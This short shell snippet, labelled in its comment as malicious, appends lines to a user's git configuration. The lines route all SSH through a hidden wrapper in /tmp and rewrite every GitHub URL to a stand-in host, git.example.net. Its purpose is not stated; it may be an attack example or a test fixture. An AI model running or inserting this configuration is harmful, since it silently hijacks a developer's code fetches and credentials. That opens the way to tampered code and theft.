# malicious: all fetches go elsewhere
cat >> ~/.gitconfig <<'EOF'
[core]
	sshCommand = /tmp/.s/wrap
[url "https://git.example.net/"]
	insteadOf = https://github.com/
EOF
